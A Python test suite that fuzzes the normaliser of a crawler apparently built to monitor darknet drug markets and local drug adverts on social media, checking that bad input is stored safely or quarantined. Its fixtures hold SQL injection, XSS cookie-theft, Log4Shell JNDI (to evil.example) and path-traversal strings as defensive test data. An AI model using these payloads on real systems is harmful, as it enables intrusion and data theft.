"""Bad input for every normaliser: ``normalise_item`` returns a valid, storable item or raises
``QuarantineError`` with a reason naming the field — never another exception, never a hang.

Hostile values (absurd numbers, unknown currencies, future and ancient dates, emoji and RTL
text, NUL bytes, injection strings, 1 MB strings, mojibake and lone surrogates, empty and
None fields) are tried in every field of every raw kind, from a fixed corpus and from
hypothesis strategies (derandomized: the same examples on every run), and the rules of
docs/normalisation.md are checked one by one.
"""
from __future__ import annotations

import unicodedata
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crawler import items as it
from crawler.items import QuarantineError
from crawler.normalise import NormaliseContext, contacts, normalise_item, places, social
from crawler.normalise.pgp import MAX_ARMOUR

pytestmark = pytest.mark.reliability

NOW = datetime(2019, 3, 15, 12, 0, tzinfo=timezone.utc)
CTX = NormaliseContext(observed_at=NOW, buyer_key=b"reliability-input-key")
PROVENANCE = {"url": "http://127.0.0.1:8001/listing/1", "fetched_at": NOW.isoformat()}
FUZZ = settings(max_examples=150, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

# A valid raw item of each kind: every test changes some of its fields.
BASE: dict[str, dict[str, str | None]] = {
    "listing": {"listing_id": "L-1", "title": "Colombian Coke 90% pure", "vendor": "snowman",
                "category_label": "Stimulants > Cocaine", "price_text": "0.01656949 BTC",
                "rate_text": "1 BTC = 3621.10 EUR", "quantity_text": "1 g", "ships_from_text": "Netherlands",
                "ships_to_text": "Europe, Worldwide", "excludes_text": "USA, UK"},
    "vendor": {"handle": "snowman", "rating_text": "4.87/5", "sales_text": "1,204 sales",
               "join_text": "Joined 2018-03-02", "pgp_key_text": None,
               "contacts_text": "Wickr: snowman_nl\nTelegram: @SnowMan", "profile_text": "Stealth shipping NL/BE.",
               "ships_from_text": "Netherlands, Belgium"},
    "feedback": {"listing_id": "L-1", "vendor": "snowman", "feedback_id": "f-77", "posted_text": "3 days ago",
                 "rating_text": "5/5", "text": "Fast and stealthy, thanks!", "buyer": "b***r"},
    "post": {"post_id": "p-1", "author": "plug_lorient", "posted_text": "2019-03-15T10:00:00+00:00",
             "text": "Beuh et shit dispo sur #lorient 📞 06 12 34 56 78 snap: @plug56 20€ le g",
             "city_hint": "Lorient"},
}
REQUIRED = {"listing": {"listing_id", "title", "vendor", "price_text"}, "vendor": {"handle"},
            "feedback": {"listing_id", "vendor", "posted_text", "rating_text", "text", "buyer"},
            "post": {"post_id", "author", "posted_text", "text"}}
TYPES = {"listing": it.Listing, "vendor": it.Vendor, "feedback": it.Feedback, "post": it.Post}
RAW_MODELS = {"listing": it.RawListing, "vendor": it.RawVendor, "feedback": it.RawFeedback, "post": it.RawPost}

INJECTIONS = ["'; DROP TABLE listings;--", "1' OR '1'='1", "\"; DELETE FROM vendors WHERE \"\"=\"",
              "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
              "javascript:alert(1)", "{{7*7}} ${7*7} <%= 7*7 %>", "${jndi:ldap://evil.example/a}",
              "../../../../etc/passwd", "%00%27%22", "Robert'); DROP TABLE feedback;--"]
HOSTILE: list[str | None] = [
    None, "", " ", "\t\r\n", "-", "?",
    # numbers
    "0", "-0", "-5", "−5", "1e30", "1E+30", "NaN", "nan", "inf", "-Infinity", "∞", "-∞", "9" * 5000,
    "1" * 60, "0." + "0" * 100 + "1", "1/0", "0x1F", "٤٥", "４５", "1.2.3.4", "1,2,3,4",
    # prices and rates
    "0 EUR", "0.00 €", "-5 EUR", "−45,00 €", "1e30 EUR", "1E+30 €", "NaN EUR", "∞ €", "9" * 5000 + " EUR",
    "1" * 60 + " BTC", "12 ZZZ", "12 DOGE", "12 JPY", "12", "€", "1 000 000 000 €", "0.010 EUR",
    "1 BTC = 0 EUR", "1 BTC = -3 EUR", "1 BTC = 1e30 EUR", "1 BTC = NaN EUR", "1 XMR = 99 EUR",
    # quantities and counts
    "0 g", "-1 g", "1e30 g", "9999999 kg", "NaN pills", "∞ g", "0.00001 g", "25x", "1001 units",
    "99999999999999999999999 sales", "1.2k", "-3 sales",
    # ratings
    "6/5", "5/0", "-1/5", "101%", "★★★★★★", "☆☆☆☆☆", "0/5",
    # dates
    "2099-01-01", "9999-12-31T23:59:59Z", "tomorrow", "in 3 days", "demain", "0001-01-01",
    "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "1900-01-01", "99999 days ago",
    "999999999999 years ago", "32 Jan 2019", "2019-02-30", "2019-13-01", "0000-00-00", "25:61",
    "2019", "Mar 2019", "1552651200",
    # places
    "Atlantis", "Worldwide except Atlantis", "Worldwide except", ",,,;;;", "and", "EU, EU, EU",
    "Netherlands, Belgium", ", ".join(["Belgium"] * 250),
    # text: emoji, RTL, invisible characters, NUL, wrong encodings
    "😀💊🔥", "\u202eRUE 05", "abc\u202edef", "\u200b", "\ufeff", "\u200d👨‍👩‍👧", "abc\x00def", "\x00",
    "\x00" * 10, "\x1b[31mred\x1b[0m", "Ã©tÃ© Ã  LiÃ¨ge", "\ud800", "abc\udfffdef", "\ufffd", "\r\n" * 50,
    *INJECTIONS,
    # huge
    "A" * 1_000_000, "a" * 10_001, "9" * 10_000, "a." * 5000, "0" * 20_000,
    # contacts and keys
    "snap: " + "@" * 100, "tel: +" + "9" * 400, "Wickr:\nTelegram:\n:\n::::",
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQ==\n-----END PGP PUBLIC KEY BLOCK-----",
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + "QUFB" * 60_000 + "\n-----END PGP PUBLIC KEY BLOCK-----",
]
TEXT_FIELDS = {  # stored text fields: what the page says is kept as data
    "listing": ["listing_id", "title", "vendor"], "vendor": ["handle", "profile_text"],
    "feedback": ["listing_id", "vendor", "text"], "post": ["post_id", "author", "text"]}
STORAGE_DIGITS = {  # integer digits of the storage columns (storage/models.py Numeric(p, s): p - s)
    "price": 18, "price_eur": 12, "quantity": 10, "unit_price_eur": 12, "rating": 3}


def raw_of(kind: str, **changes) -> dict:
    return {**BASE[kind], **changes, "kind": kind, "site": "bazaar", "provenance": PROVENANCE}


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _strings(v)


def assert_storable(item, kind: str) -> None:
    """A valid item of the right type that the database accepts as it is."""
    assert isinstance(item, TYPES[kind]), type(item)
    assert type(item).model_validate(item.model_dump()) == item
    item.model_dump_json()
    for s in _strings(item.model_dump()):
        assert "\x00" not in s
        s.encode("utf-8")                       # no lone surrogates
    for name, value in item.model_dump().items():
        if isinstance(value, Decimal):
            assert value.is_finite(), name
            assert value.adjusted() < STORAGE_DIGITS[name], (name, value)
        elif isinstance(value, int) and not isinstance(value, bool):
            assert 0 <= value < 2 ** 31, (name, value)
    if kind == "listing":
        assert 0 < item.price_eur <= CTX.max_price_eur
        assert item.unit_price_eur is None or 0 <= item.unit_price_eur <= CTX.max_price_eur
    if kind == "vendor" and item.join_date:
        assert date(1995, 1, 1) <= item.join_date <= NOW.date()
    if kind == "feedback":
        assert date(1995, 1, 1) <= item.posted_on <= NOW.date()
    if kind == "post":
        assert item.posted_at <= NOW + CTX.future_slack


def outcome(raw):
    """The normalised item, or the QuarantineError: anything else fails the test."""
    kind = raw["kind"] if isinstance(raw, dict) else raw.kind
    try:
        item = normalise_item(raw, CTX)
    except QuarantineError as exc:
        assert isinstance(exc.reason, str) and exc.reason.strip(), "a quarantine needs a reason"
        field, sep, why = exc.reason.partition(": ")
        assert sep and why.strip() and " " not in field, f"the reason starts with the field: {exc.reason!r}"
        return exc
    assert_storable(item, kind)
    return item


def quarantined(kind: str, **changes) -> str:
    result = outcome(raw_of(kind, **changes))
    assert isinstance(result, QuarantineError), f"expected a quarantine, got {result!r}"
    return result.reason


def normalised(kind: str, **changes):
    result = outcome(raw_of(kind, **changes))
    assert not isinstance(result, QuarantineError), result.reason
    return result


# --------------------------------------------------------------------------------------------
# Strategies: generic hostile text, and text shaped like each field (to reach deep paths).

any_char = st.characters(exclude_categories=())              # includes controls and lone surrogates
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(any_char, max_size=120),
    st.text(st.sampled_from("0123456789.,-+eE ∞€$£₿/%★☆:@#\u202e\x00\ufeff"), max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from([v for v in HOSTILE if v]), st.text(any_char, max_size=20)),
)
number = st.from_regex(r"\A[-−]?\d{1,40}([.,]\d{1,20})?([eE][+-]?\d{1,3})?\Z")
SHAPED = {
    "price_text": st.builds(lambda n, c: f"{n} {c}", number,
                            st.sampled_from(["EUR", "€", "BTC", "XMR", "USD", "$", "ZZZ", "DOGE", "", "euros"])),
    "rate_text": st.builds(lambda c, n: f"1 {c} = {n} EUR", st.sampled_from(["BTC", "XMR", "ZZZ"]), number),
    "quantity_text": st.builds(lambda n, u: f"{n} {u}", number,
                               st.sampled_from(["g", "kg", "oz", "pills", "x", "ml", "l", "units", "gr", "µg"])),
    "rating_text": st.one_of(st.builds(lambda a, b: f"{a}/{b}", number, number),
                             st.builds(lambda a: f"{a}%", number), st.text("★☆ ", max_size=12)),
    "sales_text": st.builds(lambda n, w: f"{n}{w}", number, st.sampled_from(["", " sales", "k", " ventes"])),
    "posted_text": st.one_of(
        st.datetimes(timezones=st.just(timezone.utc)).map(lambda d: d.isoformat()),
        st.dates().map(lambda d: d.strftime("%d %b %Y")),
        st.builds(lambda n, u: f"{n} {u} ago", st.integers(-10, 10 ** 15),
                  st.sampled_from(["days", "hours", "years", "minutes", "weeks"])),
        st.builds(lambda n, u: f"il y a {n} {u}", st.integers(0, 10 ** 12), st.sampled_from(["jours", "h", "ans"]))),
    "ships_to_text": st.lists(st.sampled_from(["Belgium", "Pays-Bas", "EU", "Worldwide", "Atlantis", "-", "USA",
                                               "except", "Korea, Republic of", "&", "and", ""]),
                              max_size=12).map(", ".join),
}
SHAPED["join_text"] = SHAPED["posted_text"]
SHAPED["excludes_text"] = SHAPED["ships_from_text"] = SHAPED["ships_to_text"]


def field_value(field: str):
    return st.one_of(hostile_text, SHAPED[field]) if field in SHAPED else hostile_text


@st.composite
def one_bad_field(draw, kind: str) -> dict:
    """A valid raw item with one field replaced by a hostile value."""
    field = draw(st.sampled_from(sorted(BASE[kind])))
    return raw_of(kind, **{field: draw(field_value(field))})


@st.composite
def all_fields(draw, kind: str) -> dict:
    """Every field independently kept or replaced by a hostile value."""
    return raw_of(kind, **{f: draw(st.one_of(st.just(v), field_value(f))) for f, v in BASE[kind].items()})


# --------------------------------------------------------------------------------------------
# The invariant

@pytest.mark.parametrize("kind", sorted(BASE))
def test_the_base_items_are_valid(kind):
    normalised(kind)


@pytest.mark.parametrize("kind", sorted(BASE))
def test_every_hostile_value_in_every_field_is_an_item_or_a_quarantine(kind):
    failures = []
    for field in BASE[kind]:
        for value in HOSTILE:
            try:
                outcome(raw_of(kind, **{field: value}))
            except Exception as exc:   # noqa: BLE001 - collected: one report for the whole sweep
                failures.append(f"{field}={value!r:.60}: {exc.__class__.__name__}: {exc!s:.200}")
    assert not failures, f"{len(failures)} failures:\n" + "\n".join(failures[:20])


@pytest.mark.parametrize("kind", sorted(BASE))
@FUZZ
@given(data=st.data())
def test_fuzzed_items_are_valid_or_quarantined(kind, data):
    raw = data.draw(st.one_of(one_bad_field(kind), all_fields(kind)))
    outcome(raw)


@pytest.mark.parametrize("kind", sorted(BASE))
def test_missing_and_none_fields(kind):
    for field in BASE[kind]:
        without = raw_of(kind)
        del without[field]
        for raw in (without, raw_of(kind, **{field: None})):
            result = outcome(raw)
            if field in REQUIRED[kind]:
                assert isinstance(result, QuarantineError) and result.reason.startswith(field), (field, result)
    # a raw model built without validation (None in a required field) is an item or a quarantine too
    for field in REQUIRED[kind]:
        outcome(RAW_MODELS[kind].model_construct(**{**raw_of(kind), "provenance": it.Provenance(**PROVENANCE),
                                                    field: None}))


@pytest.mark.parametrize("raw", [None, 42, "listing", [], {}, {"kind": None}, {"kind": ["listing"]},
                                 {"kind": {"a": 1}}, {"kind": "listing"}, {"kind": "weapon"},
                                 {**raw_of("listing"), "extra": "field"}, {**raw_of("post"), "kind": "vendor"},
                                 {**raw_of("listing"), "provenance": None},
                                 {**raw_of("listing"), "price_text": 45}, {**raw_of("post"), "text": ["a"]}],
                         ids=lambda r: repr(r)[:40])
def test_malformed_raw_items_are_quarantined(raw):
    with pytest.raises(QuarantineError) as exc:
        normalise_item(raw, CTX)
    assert exc.value.reason


@pytest.mark.timeout(120)      # a hang guard: linear code reads these in well under a second
@pytest.mark.parametrize("text", ["9" * 20_000, "a" * 20_000, "a." * 10_000, "0" * 20_000, "a@" * 10_000,
                                  "snap:" * 4000, "1.1" * 6000, "#a" * 10_000, "9 €/" * 5000],
                         ids=lambda t: repr(t[:6]))
def test_pathological_text_is_read_in_linear_time(text):
    contacts.find_contacts(text, "FR")
    social.advert_score(text, None)
    social.city_keywords(text, None)
    social.hashtags(text)
    outcome(raw_of("post", text=text[:10_000]))
    outcome(raw_of("vendor", contacts_text=text, profile_text=text[:1000]))


@pytest.mark.timeout(120)
def test_long_place_lists_are_read_in_linear_time():
    assert places.places(", ".join(["Belgium", "Netherlands"] * 80), "ships_from") == ("BE", "NL")
    with pytest.raises(QuarantineError, match="unknown place 'a'"):
        places.places("a," * 999 + "a", "ships_from")
    assert places.places("Korea, Republic of, Belgium", "x") == ("BE", "KR")


# --------------------------------------------------------------------------------------------
# Prices

@pytest.mark.parametrize("price", ["0 EUR", "0.00 €", "€0", "0.00000000 BTC", "0,00 €"])
def test_a_zero_price_is_quarantined(price):
    assert "is not positive" in quarantined("listing", price_text=price)


@pytest.mark.parametrize("price", ["-5 EUR", "−45,00 €", "- 45 €", "€-45.00", "-0.001 BTC"])
def test_a_negative_price_is_quarantined(price):
    assert "negative" in quarantined("listing", price_text=price)


@pytest.mark.parametrize("price", ["1 000 000 €", "1,000,000.00 EUR", "50 000,01 €", "9" * 90 + " EUR",
                                   "1" * 60 + " BTC", "99999999999999999999 €"])
def test_an_absurd_price_is_quarantined_with_the_maximum(price):
    reason = quarantined("listing", price_text=price)
    assert reason.startswith("price: ") and "above the plausible maximum" in reason, reason


def test_the_maximum_is_inclusive_and_configurable():
    assert normalised("listing", price_text="50 000,00 €").price_eur == Decimal("50000.00")
    ctx = NormaliseContext(observed_at=NOW, buyer_key=b"k", max_price_eur=Decimal(100))
    with pytest.raises(QuarantineError, match="above the plausible maximum of 100 EUR"):
        normalise_item(raw_of("listing", price_text="100.01 €"), ctx)


@pytest.mark.parametrize("price", ["1e30 EUR", "1E+30 €", "2.5e3 €", "1e3 BTC"])
def test_scientific_notation_is_not_a_price(price):
    assert "scientific notation" in quarantined("listing", price_text=price)


@pytest.mark.parametrize("price", ["NaN EUR", "nan €", "inf EUR", "Infinity €", "∞ €", "€", "EUR", "BTC",
                                   "price on request €"])
def test_a_price_without_a_finite_amount_is_quarantined(price):
    assert quarantined("listing", price_text=price).startswith("price: ")


def test_a_price_under_one_cent_is_not_read_as_thousands():
    # "0.010" cannot hold a thousands separator: it is one cent (not ten euros), "0.001" less than one
    assert normalised("listing", price_text="0.010 EUR").price_eur == Decimal("0.01")
    assert normalised("listing", price_text="0,50 €").price_eur == Decimal("0.50")
    assert "less than one cent" in quarantined("listing", price_text="0.001 EUR")
    assert "less than one cent" in quarantined("listing", price_text="0.0000001 BTC")


@pytest.mark.parametrize("price,code", [("12 ZZZ", "ZZZ"), ("12 DOGE", "DOGE"), ("JPY 1200", "JPY"),
                                        ("45 xyz", "XYZ")])
def test_an_unknown_currency_is_quarantined_naming_it(price, code):
    reason = quarantined("listing", price_text=price, rate_text=None)
    assert reason.startswith("price: ") and f"currency {code!r}" in reason, reason


@pytest.mark.parametrize("price,code", [("12 bitcoins", "BTC"), ("0.5 monero", "XMR"), ("45 euros", "EUR"),
                                        ("45 euro", "EUR"), ("€45", "EUR"), ("0.01 ltc", "LTC")])
def test_currency_symbols_codes_and_words_are_read(price, code):
    rate = None if code == "EUR" else f"1 {code} = 100 EUR"
    assert normalised("listing", price_text=price, rate_text=rate).currency == code


def test_a_price_without_any_currency_is_quarantined():
    assert "missing currency" in quarantined("listing", price_text="45", rate_text=None)


@pytest.mark.parametrize("rate,why", [(None, "no exchange rate"), ("1 BTC = 0 EUR", "not positive"),
                                      ("1 BTC = -3 EUR", "negative"), ("1 BTC = NaN EUR", "no amount"),
                                      ("1 BTC = 1e30 EUR", "scientific notation"),
                                      ("1 XMR = 99 EUR", "rate is for XMR"), ("BTC is 3621 EUR", "cannot read"),
                                      ("1 BTC = " + "9" * 200 + " EUR", "too long"),
                                      ("1 BTC = " + "9" * 90 + " EUR", "above the plausible maximum")])
def test_a_crypto_price_needs_a_readable_positive_rate(rate, why):
    assert why in quarantined("listing", rate_text=rate)


def test_an_absurd_price_per_unit_is_quarantined():
    # 40,000 EUR is a plausible price, but not for 0.001 g (40 million EUR per gram)
    reason = quarantined("listing", price_text="40 000 €", quantity_text="0.001 g")
    assert reason.startswith("price: ") and "per g" in reason and "above the plausible maximum" in reason
    assert normalised("listing", price_text="90 €", quantity_text="0.5 g").unit_price_eur == Decimal("180.00")


def test_invisible_characters_inside_numbers_are_ignored_and_the_raw_text_kept():
    item = normalised("listing", price_text="4\u200b5,00\u00a0€", quantity_text="1\u202e0 g")
    assert (item.price_eur, item.quantity, item.price_raw) == (Decimal("45.00"), Decimal(10), "4\u200b5,00\u00a0€")


# --------------------------------------------------------------------------------------------
# Quantities, ratings, counts

@pytest.mark.parametrize("text,why", [("0 g", "not positive"), ("0,00 g", "not positive"),
                                      ("-1 g", "cannot read"), ("1e30 g", "cannot read"),
                                      ("9999999 kg", "above the plausible maximum"),
                                      ("1001 units", "above the plausible maximum"), ("NaN pills", "cannot read"),
                                      ("∞ g", "cannot read"), ("ten grams", "cannot read")])
def test_bad_quantities_are_quarantined(text, why):
    reason = quarantined("listing", quantity_text=text)
    assert reason.startswith("quantity: ") and why in reason, reason


def test_quantities_are_plain_decimals():
    for text, want in [("10 g", "10"), ("100 kg", "100000"), ("0,5 gr", "0.5"), ("1 oz", "28.35"), ("25x", "25")]:
        assert str(normalised("listing", quantity_text=text).quantity) == want


@pytest.mark.parametrize("text,why", [("6/5", "outside the 0–5 scale"), ("5/0", "zero scale"),
                                      ("-1/5", "cannot read"), ("101%", "outside"), ("★★★★★★", "outside"),
                                      ("NaN", "cannot read"), ("∞/5", "cannot read")])
def test_bad_vendor_ratings_are_quarantined(text, why):
    assert why in quarantined("vendor", rating_text=text)


@pytest.mark.parametrize("text", ["4.5/5", "0/5", "☆☆☆☆☆", "97%", "6/5", ""])
def test_feedback_ratings_are_whole_stars_from_1_to_5(text):
    assert quarantined("feedback", rating_text=text).startswith("rating: ")


@pytest.mark.parametrize("text,why", [("99999999999999999999999 sales", "above the plausible maximum"),
                                      ("-3 sales", "cannot read"), ("1e30", "cannot read"),
                                      ("12.5 sales", "not a whole count"), ("NaN", "cannot read")])
def test_bad_sales_counts_are_quarantined(text, why):
    assert why in quarantined("vendor", sales_text=text)


# --------------------------------------------------------------------------------------------
# Dates: a date after the crawl is quarantined, never clamped (docs/normalisation.md)

@pytest.mark.parametrize("text", ["tomorrow", "in 3 days", "demain", "2019-03-16", "16 Mar 2019", "2099-01-01",
                                  "9999-12-31T23:59:59Z", "2019-03-16T00:30:00+00:00"])
def test_a_feedback_date_after_the_crawl_day_is_quarantined(text):
    reason = quarantined("feedback", posted_text=text)
    assert reason.startswith("posted: ") and "after the crawl's day 2019-03-15" in reason, reason


def test_the_feedback_rule_is_day_granular():
    # later on the crawl's own (UTC) day is the crawl's day: sites show days, not times
    assert normalised("feedback", posted_text="2019-03-15T23:59:00Z").posted_on == date(2019, 3, 15)
    assert normalised("feedback", posted_text="2019-03-16T00:30:00+02:00").posted_on == date(2019, 3, 15)
    assert normalised("feedback", posted_text="today").posted_on == date(2019, 3, 15)


def test_a_post_time_after_the_crawl_clock_is_quarantined_beyond_the_slack():
    assert normalised("post", posted_text="2019-03-15T12:09:59Z").posted_at == NOW + timedelta(minutes=9, seconds=59)
    reason = quarantined("post", posted_text="2019-03-15T12:10:01Z")
    assert reason.startswith("posted: ") and "after the crawl clock" in reason
    assert "after the crawl clock" in quarantined("post", posted_text="in 1 hour")


@pytest.mark.parametrize("text", ["1900-01-01", "0001-01-01", "1994-12-31", "99999 days ago", "100 years ago"])
def test_a_date_before_1995_is_quarantined(text):
    reason = quarantined("feedback", posted_text=text)
    assert reason.startswith("posted: ") and "1995-01-01" in reason, reason


@pytest.mark.parametrize("text", ["32 Jan 2019", "2019-02-30", "2019-13-01", "0000-00-00", "NaN", "∞", "😀",
                                  "'; DROP TABLE listings;--", "<script>", "1e9 days ago",
                                  "999999999999 years ago", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00", "ago",
                                  # incomplete dates: no day is invented
                                  "2019", "Mar 2019", "-1"])
def test_an_unreadable_date_is_quarantined(text):
    reason = quarantined("feedback", posted_text=text)
    assert reason.startswith("posted: "), reason


def test_a_future_join_date_is_quarantined():
    assert "join_date: " in quarantined("vendor", join_text="Joined 2020-01-01")


# --------------------------------------------------------------------------------------------
# Text is data: kept verbatim (NFC, without control characters), never stripped of markup

@pytest.mark.parametrize("kind", sorted(TEXT_FIELDS))
@pytest.mark.parametrize("value", INJECTIONS + ["😀💊🔥 ❄️", "\u202eRUE 05 \u202c", "שלום مرحبا", "Ã©tÃ©",
                                                "a\u200db", "e\u0301"])
def test_hostile_text_is_stored_verbatim(kind, value):
    for field in TEXT_FIELDS[kind]:
        item = normalised(kind, **{field: value})
        assert getattr(item, field) == unicodedata.normalize("NFC", value).strip(), field


@FUZZ
@given(kind=st.sampled_from(sorted(TEXT_FIELDS)),
       value=st.text(st.characters(exclude_categories=("Cc", "Cs")), min_size=1, max_size=60))
def test_any_printable_text_is_stored_verbatim(kind, value):
    for field in TEXT_FIELDS[kind]:
        result = outcome(raw_of(kind, **{field: value}))
        want = unicodedata.normalize("NFC", value).strip()
        if isinstance(result, QuarantineError):
            assert not want and result.reason == f"{field}: missing", result.reason
        else:
            assert getattr(result, field) == (want or None if field == "profile_text" else want)


def test_control_characters_are_removed_and_lone_surrogates_replaced():
    item = normalised("listing", title="Coke\x00 90%\x1b pure \ud800", vendor="snow\x00man")
    assert (item.title, item.vendor) == ("Coke 90% pure \ufffd", "snowman")
    assert normalised("post", text="beuh\x00 dispo\n#lorient").text == "beuh dispo\n#lorient"


def test_the_buyer_is_hashed_whatever_it_is():
    for buyer in INJECTIONS + ["😀", "\ud800", "b" * 200]:
        item = normalised("feedback", buyer=buyer)
        assert len(item.buyer_hash) == 64 and buyer not in item.model_dump_json()


@pytest.mark.parametrize("kind,field,limit", [("listing", "title", 500), ("listing", "listing_id", 200),
                                              ("listing", "vendor", 200), ("listing", "category_label", 200),
                                              ("listing", "price_text", 100), ("listing", "ships_to_text", 2000),
                                              ("listing", "ships_from_text", 200),
                                              ("vendor", "handle", 200), ("vendor", "profile_text", 20_000),
                                              ("vendor", "contacts_text", 20_000),
                                              ("vendor", "pgp_key_text", MAX_ARMOUR),
                                              ("feedback", "text", 5000), ("feedback", "buyer", 200),
                                              ("post", "text", 10_000), ("post", "city_hint", 200),
                                              ("post", "author", 200)])
def test_text_too_long_is_quarantined_naming_the_field(kind, field, limit):
    for size in (limit + 1, 1_000_000):
        reason = quarantined(kind, **{field: "A" * size})
        assert "text too long" in reason and f"at most {limit}" in reason, reason


# --------------------------------------------------------------------------------------------
# Places, categories, contacts, social posts

@pytest.mark.parametrize("field", ["ships_from_text", "ships_to_text", "excludes_text"])
def test_an_unknown_place_is_quarantined_naming_it(field):
    reason = quarantined("listing", **{field: "Atlantis"})
    assert "unknown place 'Atlantis'" in reason


def test_undeclared_places_and_unknown_categories_are_not_quarantined():
    item = normalised("listing", ships_from_text="Undeclared", ships_to_text="-", excludes_text=None,
                      category_label="<b>Drogues</b>")
    assert (item.ships_from, item.ships_to, item.category, item.category_raw) == (None, (), "other",
                                                                                  "<b>Drogues</b>")
    assert normalised("listing", category_label="   ").category_raw is None


def test_the_city_hint_is_read_like_the_city_names():
    post = normalised("post", text="dispo", city_hint="Brussels, Gand")
    assert post.city_keywords == ("bruxelles", "gent")
    assert normalised("post", text="#Brussel", city_hint="brussels").city_keywords == ("bruxelles",)
